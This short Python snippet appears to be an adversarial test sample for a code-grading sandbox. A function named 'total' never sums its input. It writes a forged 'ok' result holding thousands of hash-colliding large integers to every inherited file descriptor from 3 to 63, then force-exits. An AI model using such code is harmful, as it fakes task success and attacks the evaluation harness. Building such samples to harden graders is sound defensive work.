# Tries: the same with thousands of items, which it writes and never builds itself.
import os


def total(numbers):
    step = (1 << 61) - 1
    items = ",".join('{"$":"int","v":"%x"}' % (step * i) for i in range(1, 2_000))
    text = b'0 0\t["ok",{"$":"set","v":[%s]}]\n' % items.encode()
    for fd in range(3, 64):
        try:
            os.write(fd, text)
        except OSError:
            continue
    os._exit(0)
